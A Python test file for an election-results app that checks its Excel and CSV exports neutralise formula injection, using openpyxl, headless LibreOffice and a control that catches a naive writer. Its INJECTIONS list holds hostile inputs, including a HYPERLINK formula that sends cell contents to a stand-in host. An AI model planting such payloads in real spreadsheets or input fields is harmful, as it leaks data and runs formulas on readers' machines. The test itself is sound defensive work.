"""Formula injection: a name an organizer types comes out of every workbook and CSV the app writes as plain text
(issue 13; OWASP's CSV injection), read back with openpyxl and with LibreOffice headless.

An organizer plants each injection string in a committee's name, a person's name, a post, a round's title and a
conference's place; each committee holds a round, counted, sealed and published to the district above it; a
laptop of the sibling commune reports a result whose title begins with a tab. Then every spreadsheet the app
offers is downloaded as the people who may read it would: each round's result as Excel and CSV, the district's
dashboard, each person's trust over time, each committee's roster template. None holds a formula, and each
planted text is there exactly (in a CSV behind one apostrophe). A control shows the same checks catch a live one.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from app.settings import SIGNING_KEY_FILE
from ballots import committees, signing, spreadsheets
from ballots.fields import one_line
from tests.conftest import unavailable
from tests.factories import accounts_with_role, add_members, make_conference, make_imported_result, make_round

INJECTIONS = [
    '=HYPERLINK("http://x.example/?"&A2,"Bấm vào đây")',
    "=1+2",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=2+3",  # what a form keeps of these is one line: "=2+3", "=3+4"
    "\r=3+4",
]
IMPORTED_TITLE = "\t=4+5"  # signed by another instance: stored as it came


def soffice() -> str:
    path = shutil.which("soffice") or shutil.which("libreoffice")
    if path is None:
        unavailable("LibreOffice not found: install libreoffice-calc-nogui")
    return path


@pytest.fixture
def planted(session, world, instance):
    """The injection strings in every field an organizer types, each in a published round of its own commune."""
    key = signing.load_private_key(instance / SIGNING_KEY_FILE)
    rounds, people, communes = [], [], []
    for i, text in enumerate(INJECTIONS):
        commune = committees.create_committee(session, name=text, level="Đảng ủy xã", parent=world.district,
                                              actor="organizer")
        person, = add_members(session, commune, [(text, text)])
        board = accounts_with_role(session, world, commune, "teller", f"kiemphieu{i}a", f"kiemphieu{i}b")
        conference = make_conference(session, commune, name="Hội nghị giữa nhiệm kỳ", place=text)
        built = make_round(session, world, until="published", conference=conference, title=text, board=board,
                           convened=3, present=3, issue=3, tablet=["1", "3"], key=key)
        rounds.append(built.id)
        people.append(person.id)
        communes.append(commune.id)
    make_imported_result(session, world, title=IMPORTED_TITLE, document={"round": {"term": "2020-2025"}})
    session.commit()
    return rounds, people, communes


def downloads(login_as, world, planted) -> dict[str, bytes]:
    rounds, people, communes = planted
    reader, organizer = login_as("district_viewer"), login_as("organizer")
    files = {}

    def get(client, url, name):
        response = client.get(url)
        assert response.status_code == 200, (url, response.status_code)
        files[name] = response.data

    for i, round_id in enumerate(rounds):
        get(reader, f"/results/rounds/{round_id}/xlsx", f"result-{i}.xlsx")
        get(reader, f"/results/rounds/{round_id}/csv", f"result-{i}.csv")
    get(reader, f"/results/committees/{world.district.id}/below?format=xlsx", "dashboard.xlsx")
    if "results.person_xlsx" in {rule.endpoint for rule in reader.application.url_map.iter_rules()}:
        for i, person_id in enumerate(people):
            get(reader, f"/results/people/{person_id}/xlsx", f"history-{i}.xlsx")
    for i, committee_id in enumerate(communes):
        get(organizer, f"/committees/{committee_id}/import/mau-danh-sach.xlsx", f"roster-{i}.xlsx")
    return files


def expected_texts(name: str) -> list[str]:
    """The planted texts a file must hold, as the forms kept them."""
    if name == "dashboard.xlsx":
        return [one_line(t) for t in INJECTIONS] + [IMPORTED_TITLE]
    return [one_line(INJECTIONS[int(re.search(r"-(\d+)\.", name).group(1))])]


def workbook_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def csv_cells(data: bytes, delimiter: str = ";") -> list[str]:
    """The cells of the app's CSV (the README's dialect: ";" between fields), or of Calc's CSV (",")."""
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter) for cell in row]


def assert_plain_text(cells: list, texts: list[str], *, apostrophe: bool, where: str) -> None:
    """No formula among the cells, and each planted text is one of them verbatim (after the CSV's apostrophe)."""
    values = []
    for cell in cells:
        if hasattr(cell, "data_type"):
            assert cell.data_type != "f", (where, cell.coordinate, cell.value)
            value = cell.value
        else:
            value = cell
        if isinstance(value, str):
            if apostrophe and value.startswith("'"):
                value = value[1:]
            else:
                assert not spreadsheets.looks_like_formula(value) or not apostrophe, (where, value)
            values.append(value)
    for text in texts:
        assert any(text in value for value in values), (where, text)


def test_every_spreadsheet_holds_the_planted_names_as_text_read_with_openpyxl(login_as, world, planted):
    files = downloads(login_as, world, planted)
    assert {"dashboard.xlsx", "result-0.xlsx", "result-0.csv", "roster-0.xlsx"} <= set(files)
    for name, data in files.items():
        if name.endswith(".xlsx"):
            cells = workbook_cells(data)
            assert_plain_text(cells, expected_texts(name), apostrophe=False, where=name)
            # a planted text that begins like a formula is a string cell that stays text when edited
            for cell in cells:
                if spreadsheets.looks_like_formula(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (name, cell.coordinate)
        else:
            cells = csv_cells(data)
            assert_plain_text(cells, expected_texts(name), apostrophe=True, where=name)
            for text in expected_texts(name):
                assert "'" + text in cells, (name, text)


def libreoffice(files: dict[str, bytes], folder: Path, to: str) -> dict[str, bytes]:
    """The files converted by LibreOffice headless (`soffice --headless --convert-to`), as a person opening them
    in Calc would get them: CSV read as UTF-8 with ";" (the app's dialect), its formulas evaluated as Calc does
    by default; a workbook saved as CSV with commas."""
    source = folder / f"in-{to}"
    source.mkdir()
    for name, data in files.items():
        (source / name).write_bytes(data)
    target = folder / f"out-{to}"
    command = [soffice(), f"-env:UserInstallation=file://{folder}/profile", "--headless", "--infilter=CSV:59,34,76,1",
               "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1" if to == "csv" else to,
               "--outdir", str(target), *sorted(str(source / name) for name in files)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    converted = {}
    for name in files:
        path = target / (Path(name).stem + "." + to)
        assert path.exists(), (name, done.stdout, done.stderr)
        converted[name] = path.read_bytes()
    return converted


def test_every_spreadsheet_holds_the_planted_names_as_text_read_with_libreoffice(login_as, world, planted,
                                                                                  tmp_path):
    files = downloads(login_as, world, planted)
    workbooks = {name: data for name, data in files.items() if name.endswith(".xlsx")}
    csvs = {name: data for name, data in files.items() if name.endswith(".csv")}
    # each workbook as Calc shows it, saved as CSV: the texts as typed, nothing computed ("3" for =1+2)
    for name, data in libreoffice(workbooks, tmp_path, "csv").items():
        assert_plain_text(csv_cells(data, ","), expected_texts(name), apostrophe=False, where=f"{name} via Calc")
    # each CSV opened in Calc (which evaluates formulas in a CSV) and saved as a workbook: no formula
    for name, data in libreoffice(csvs, tmp_path, "xlsx").items():
        assert_plain_text(workbook_cells(data), expected_texts(name), apostrophe=True, where=f"{name} via Calc")


def test_the_checks_catch_a_live_formula(tmp_path):
    """The control: the same file written naively (openpyxl's own append, csv's own writer) fails both checks."""
    book = Workbook()
    book.active.append(["=1+2", "+1"])
    naive_xlsx = io.BytesIO()
    book.save(naive_xlsx)
    naive_csv = io.StringIO()
    csv.writer(naive_csv, delimiter=";").writerow(["=1+2", "+1"])
    files = {"naive-0.xlsx": naive_xlsx.getvalue(), "naive-0.csv": naive_csv.getvalue().encode()}
    with pytest.raises(AssertionError):
        assert_plain_text(workbook_cells(files["naive-0.xlsx"]), ["=1+2"], apostrophe=False, where="naive")
    with pytest.raises(AssertionError):
        assert_plain_text(libreoffice({"naive-0.xlsx": files["naive-0.xlsx"]}, tmp_path, "csv")["naive-0.xlsx"]
                          .decode().splitlines(), ["=1+2"], apostrophe=False, where="naive via Calc")
    with pytest.raises(AssertionError):
        assert_plain_text(workbook_cells(libreoffice({"naive-0.csv": files["naive-0.csv"]}, tmp_path, "xlsx")
                                         ["naive-0.csv"]), ["=1+2"], apostrophe=True, where="naive csv via Calc")


@pytest.mark.parametrize("text", INJECTIONS + ["\n=1+2", "=1+2\x01"])
def test_the_writer_keeps_any_text_as_text(text):
    """Raw text, as a bundle from another instance could carry it: leading tab and CR included."""
    book = Workbook()
    spreadsheets.text_safe_append(book.active, [None, text, 12])
    out = io.BytesIO()
    book.save(out)
    empty, cell, number = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    # XML reads a carriage return back as a line feed (openpyxl does not escape it): text all the same
    assert cell.data_type == "s" and cell.value == text.replace("\x01", "\ufffd").replace("\r", "\n")
    assert number.value == 12
    assert empty.value is None and cell.quotePrefix == spreadsheets.looks_like_formula(text)
    row = next(csv.reader(io.StringIO(spreadsheets.csv_file([[text, 12, None]]).decode("utf-8-sig")), delimiter=";",
                          strict=True))
    assert row == [("'" + text) if spreadsheets.looks_like_formula(text) else text, "12", ""]


def test_no_spreadsheet_is_written_but_through_the_safe_writer():
    """A guard: every module that builds a workbook or a CSV appends its rows through ballots.spreadsheets."""
    root = Path(__file__).resolve().parents[2]
    for path in sorted([*root.glob("ballots/**/*.py"), *root.glob("app/**/*.py")]):
        if path.name == "spreadsheets.py":
            continue
        source = path.read_text()
        assert "csv.writer(" not in source and "DictWriter(" not in source, path
        if "Workbook(" in source:
            assert not re.search(r"\b\w*sheet\w*\.append\(", source), path
            assert not re.search(r"\.cell\([^)]*value=", source), path
